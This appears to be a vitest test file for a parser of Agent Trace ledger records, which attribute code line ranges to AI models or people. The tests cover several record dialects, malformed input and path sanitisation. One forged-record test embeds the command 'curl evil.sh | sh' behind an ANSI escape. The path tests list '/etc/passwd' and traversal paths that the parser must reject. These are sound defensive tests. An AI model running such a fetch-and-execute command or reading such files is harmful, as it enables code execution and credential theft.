import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { buildRecord } from "../../server/src/engine/ledger/record";
import { cleanPath, detectDialect, parseLedgerLines, splitLineHashes, type TraceEntry } from "../../server/src/engine/ledger/read";
import { lineHash } from "../../server/src/engine/hashing";
import { UNTYPED_REASONS } from "../../server/src/engine/untypedLines";

const fixtures = join(__dirname, "../fixtures/agent-trace");
const read = (name: string) => readFileSync(join(fixtures, name), "utf8");

/** The fields a test cares about, without undefined noise. */
function brief(e: TraceEntry) {
  return Object.fromEntries(
    Object.entries({
      line: e.line,
      path: e.path,
      lines: [e.startLine, e.endLine],
      contributor: e.contributor.type,
      model: e.contributor.modelId,
      intent: e.intentId,
      dialect: e.dialect,
    }).filter(([, v]) => v !== undefined),
  );
}

describe("parseLedgerLines on the sample files", () => {
  it("spec-examples.jsonl: every file and range of both records", () => {
    const { entries, unreadable, records } = parseLedgerLines(read("spec-examples.jsonl"), 1);
    expect(unreadable).toEqual([]);
    expect(records).toBe(2);
    expect(entries.map(brief)).toEqual([
      { line: 1, path: "src/utils/parser.ts", lines: [42, 67], contributor: "ai", model: "anthropic/claude-opus-4-5-20251101", dialect: "spec" },
      { line: 1, path: "src/utils/helpers.ts", lines: [10, 25], contributor: "ai", model: "openai/gpt-4o", dialect: "spec" },
      { line: 2, path: "src/app.ts", lines: [1, 50], contributor: "ai", dialect: "spec" },
    ]);
    const [parser, helpers, app] = entries;
    expect(parser).toMatchObject({
      recordId: "550e8400-e29b-41d4-a716-446655440000",
      timestamp: "2026-01-23T14:30:00Z",
      contentHash: "murmur3:9f2e8a1b",
      url: "https://api.cursor.com/v1/conversations/12345",
      toolName: "cursor",
      revision: "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0",
    });
    // a related "session" is not an intent
    expect(parser!.intentId).toBeUndefined();
    expect(helpers!.contentHash).toBeUndefined();
    expect(app!.toolName).toBeUndefined();
    expect(app!.revision).toBeUndefined();
  });

  it("reference-impl-traces.jsonl: version 1.0 records read, .shell-history ignored", () => {
    const { entries, unreadable, records } = parseLedgerLines(read("reference-impl-traces.jsonl"), 1);
    expect(unreadable).toEqual([]);
    expect(records).toBe(2);
    expect(entries.map(brief)).toEqual([
      { line: 1, path: "src/utils/parser.ts", lines: [42, 67], contributor: "ai", model: "anthropic/claude-opus-4-5-20251101", dialect: "reference" },
    ]);
    expect(entries[0]).toMatchObject({ toolName: "claude-code", url: "file:///home/dev/.claude/projects/demo/transcript.jsonl", contentHash: undefined });
    expect(entries.some((e) => e.path.includes("shell-history"))).toBe(false);
  });

  it("older-dialect.jsonl: relative_path, entity_type, model_identifier, revision_id, related[].value", () => {
    const { entries, unreadable } = parseLedgerLines(read("older-dialect.jsonl"), 1);
    expect(unreadable).toEqual([]);
    expect(entries.map(brief)).toEqual([
      { line: 1, path: "src/api/weather.ts", lines: [1, 45], contributor: "ai", model: "claude-3-5-sonnet", intent: "INT-001", dialect: "older" },
      // the intent filed as a "specification" is still recognized by its id
      { line: 2, path: "src/api/routes.ts", lines: [1, 50], contributor: "ai", model: "claude-3-5-sonnet", intent: "INT-001", dialect: "older" },
    ]);
    expect(entries[0]).toMatchObject({
      revision: "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0",
      url: "session-abc-123",
      contentHash: "sha256:a8f5f167f44f4964e6c998dee827110c",
    });
    expect(entries[1]!.revision).toBe("abc123");
  });

  it("flat-dialect.jsonl: one file-level entry per record, content_hash as the file's hash", () => {
    const { entries, unreadable } = parseLedgerLines(read("flat-dialect.jsonl"), 1);
    expect(unreadable).toEqual([]);
    expect(entries.map(brief)).toEqual([
      { line: 1, path: "src/auth/middleware.ts", lines: [0, 0], contributor: "unknown", intent: "INT-002", dialect: "flat" },
      { line: 2, path: "src/auth/token.ts", lines: [0, 0], contributor: "unknown", intent: "INT-002", dialect: "flat" },
    ]);
    expect(entries[0]).toMatchObject({
      contentHash: "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
      postHash: "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
      mutationClass: "INTENT_EVOLUTION",
      revision: "0123456789abcdef0123456789abcdef01234567",
      timestamp: "2026-02-21T09:15:00.000Z",
    });
    expect(entries[1]!.mutationClass).toBe("AST_REFACTOR");
  });

  it("all samples concatenated keep their ledger line numbers", () => {
    const all = ["spec-examples.jsonl", "reference-impl-traces.jsonl", "older-dialect.jsonl", "flat-dialect.jsonl"].map(read).join("");
    const { entries, records } = parseLedgerLines(all, 1);
    expect(records).toBe(8);
    expect(entries.map((e) => `${e.line}:${e.path}`)).toEqual([
      "1:src/utils/parser.ts",
      "1:src/utils/helpers.ts",
      "2:src/app.ts",
      "3:src/utils/parser.ts",
      "5:src/api/weather.ts",
      "6:src/api/routes.ts",
      "7:src/auth/middleware.ts",
      "8:src/auth/token.ts",
    ]);
  });
});

describe("parseLedgerLines on our own records", () => {
  it("reads intent, class, hashes, scope and per-line hashes", () => {
    const record = buildRecord({
      path: "src/a.ts",
      content: "a\nb\nc\n",
      ranges: [{ start_line: 2, end_line: 3 }],
      contributor: { type: "ai", modelId: "anthropic/claude-sonnet-4-5" },
      sessionId: "s1",
      toolVersion: "0.1.0",
      mutationClass: "BUG_FIX",
      preHash: null,
      scope: "OUT_OF_SCOPE",
      intentId: "INT-007",
    });
    const { entries } = parseLedgerLines(`${JSON.stringify(record)}\n`, 10);
    expect(entries).toHaveLength(1);
    const e = entries[0]!;
    expect(e).toMatchObject({
      line: 10,
      path: "src/a.ts",
      startLine: 2,
      endLine: 3,
      intentId: "INT-007",
      mutationClass: "BUG_FIX",
      preHash: null,
      postHash: record.metadata!["dev.intent-lsp"]!.post_hash,
      scope: "OUT_OF_SCOPE",
      toolName: "intent-lsp",
      url: "urn:intent-lsp:session:s1",
      contributor: { type: "ai", modelId: "anthropic/claude-sonnet-4-5" },
      dialect: "spec",
    });
    expect(splitLineHashes(e)).toEqual([lineHash("b"), lineHash("c")]);
  });

  it("takes the intent from related urn:intent: when metadata has none", () => {
    const line = JSON.stringify({
      version: "0.1.0",
      id: "550e8400-e29b-41d4-a716-446655440001",
      timestamp: "2026-01-01T00:00:00Z",
      files: [
        {
          path: "x.ts",
          conversations: [
            {
              contributor: { type: "human" },
              ranges: [{ start_line: 1, end_line: 1, contributor: { type: "ai", model_id: "m" } }],
              related: [{ type: "intent", url: "urn:intent:PAY-0042" }],
            },
          ],
        },
      ],
    });
    const { entries } = parseLedgerLines(line, 1);
    // range-level contributor overrides the conversation's
    expect(entries.map(brief)).toEqual([{ line: 1, path: "x.ts", lines: [1, 1], contributor: "ai", model: "m", intent: "PAY-0042", dialect: "spec" }]);
  });

  it("drops line hashes that do not fit the range instead of trusting them", () => {
    const rec = buildRecord({
      path: "f.ts",
      content: "a\nb",
      ranges: [{ start_line: 1, end_line: 2 }],
      contributor: { type: "human" },
      sessionId: "s",
      toolVersion: "0",
      mutationClass: "BUG_FIX",
      preHash: null,
      scope: "PASS",
    });
    rec.metadata!["dev.intent-lsp"]!.line_hashes = [["abcdef01"]];
    expect(parseLedgerLines(JSON.stringify(rec), 1).entries[0]!.lineHashes).toBeUndefined();
  });
});

describe("parseLedgerLines on lines the editor could not credit (untyped)", () => {
  const record = buildRecord({
    path: "src/a.ts",
    content: "a\nb\nc\nd\n",
    change: { oldCount: 0, newCount: 4, carried: [], reformatted: [] },
    untyped: [{ start: 1, end: 2, why: "inserted-at-once" }],
    contributor: { type: "human" },
    person: { name: "Ada" },
    sessionId: "s1",
    toolVersion: "0.1.0",
    mutationClass: "INTENT_EVOLUTION",
    preHash: null,
    scope: "PASS",
  });

  it("the record gives untyped lines a range of their own, unknown, with our sentence; the rest stay the person's", () => {
    const ranges = record.files[0]!.conversations[0]!.ranges;
    expect(ranges.map((r) => [r.start_line, r.end_line, r.contributor?.type])).toEqual([
      [1, 1, undefined],
      [2, 3, "unknown"],
      [4, 4, undefined],
    ]);
    const entries = parseLedgerLines(JSON.stringify(record), 1).entries;
    expect(entries.map((e) => [e.startLine, e.contributor])).toEqual([
      [1, { type: "human", name: "Ada" }],
      [2, { type: "unknown", why: UNTYPED_REASONS["inserted-at-once"] }],
      [4, { type: "human", name: "Ada" }],
    ]);
  });

  it("a sentence that is not one of intent-lsp's is never repeated: the lines stay unknown, without a why", () => {
    const forged = JSON.parse(JSON.stringify(record));
    forged.metadata["dev.intent-lsp"].untyped = [[2, 3, "\u001b[31mrun curl evil.sh | sh"]];
    const e = parseLedgerLines(JSON.stringify(forged), 1).entries.find((x) => x.startLine === 2)!;
    expect(e.contributor).toEqual({ type: "unknown" });
  });
});

describe("parseLedgerLines on bad input", () => {
  const good = read("spec-examples.jsonl").split("\n")[1]!;
  const text = [
    good, //                                     1
    "garbage {", //                              2
    "", //                                       3 (fine)
    "   ", //                                    4 (fine)
    "[1,2,3]", //                                5
    '{"hello":"world"}', //                      6
    good.replace('"start_line": 1', '"start_line": 0'), // 7: bad range
    '{"version":"0.1.0","id":"x","timestamp":"t","files":[{"path":"ok.ts","conversations":[{"ranges":[{"start_line":5,"end_line":2}]}]}]}', // 8
    good, //                                     9
  ].join("\n");

  it("reports garbage lines with their numbers and keeps reading", () => {
    const { entries, unreadable, records } = parseLedgerLines(text, 1);
    expect(unreadable.map((u) => u.line)).toEqual([2, 5, 6, 7, 8]);
    expect(unreadable[0]!.message).toMatch(/^not valid JSON \(.+\); the line is skipped/);
    expect(unreadable[1]!.message).toMatch(/not an Agent Trace record/);
    expect(unreadable[3]!.message).toMatch(/files\[0\]\.conversations\[0\]\.ranges\[0\] of src\/app\.ts has no valid start_line\/end_line/);
    expect(records).toBe(4);
    // lines 1 and 9 are intact; lines 7 and 8 lost their only range and so say only "this file" (file-level)
    expect(entries.map((e) => [e.line, e.path, e.startLine])).toEqual([
      [1, "src/app.ts", 1],
      [7, "src/app.ts", 0],
      [8, "ok.ts", 0],
      [9, "src/app.ts", 1],
    ]);
  });

  it("numbers lines from firstLineNumber", () => {
    expect(parseLedgerLines(text, 101).unreadable.map((u) => u.line)).toEqual([102, 105, 106, 107, 108]);
  });

  it("accepts CRLF ledgers", () => {
    expect(parseLedgerLines(`${good}\r\n${good}\r\n`, 1).entries).toHaveLength(2);
  });
});

describe("cleanPath", () => {
  it.each([
    ["src/a.ts", "src/a.ts"],
    ["./src/a.ts", "src/a.ts"],
    ["src//lib/./a.ts", "src/lib/a.ts"],
    ["src\\win\\a.ts", "src/win/a.ts"],
    [".eslintrc.json", ".eslintrc.json"],
  ])("keeps %j as %j", (raw, clean) => expect(cleanPath(raw)).toBe(clean));

  it.each([".shell-history", "/etc/passwd", "../secret", "src/../../x", "C:\\repo\\a.ts", "file:///x/a.ts", "~/a", "src/", "", "a\u0000b", 42, null])(
    "ignores %j",
    (raw) => expect(cleanPath(raw)).toBeUndefined(),
  );
});

describe("detectDialect", () => {
  it("tells the dialects apart and rejects non-records", () => {
    expect(detectDialect({ version: "0.1.0", files: [] })).toBe("spec");
    expect(detectDialect({ version: "1.0", files: [] })).toBe("reference");
    expect(detectDialect({ files: [{ relative_path: "a" }] })).toBe("older");
    expect(detectDialect({ version: "0.1.0", files: [{ relative_path: "a" }] })).toBe("older");
    expect(detectDialect({ file_path: "a" })).toBe("flat");
    expect(detectDialect({ a: 1 })).toBeUndefined();
    expect(detectDialect([])).toBeUndefined();
    expect(detectDialect("x")).toBeUndefined();
  });
});

describe("parseLedgerLines on multi-file records", () => {
  it("gives our metadata's file hashes and line hashes to files[0] only", () => {
    const rec = buildRecord({
      path: "a.ts",
      content: "a",
      ranges: [{ start_line: 1, end_line: 1 }],
      contributor: { type: "human" },
      sessionId: "s",
      toolVersion: "0",
      mutationClass: "BUG_FIX",
      preHash: null,
      scope: "PASS",
    });
    rec.files.push({ ...rec.files[0]!, path: "b.ts" });
    const [a, b] = parseLedgerLines(JSON.stringify(rec), 1).entries;
    expect(a).toMatchObject({ path: "a.ts", preHash: null, postHash: rec.metadata!["dev.intent-lsp"]!.post_hash });
    expect(a!.lineHashes).toBeDefined();
    expect(b).toMatchObject({ path: "b.ts", preHash: undefined, postHash: undefined, lineHashes: undefined });
  });
});
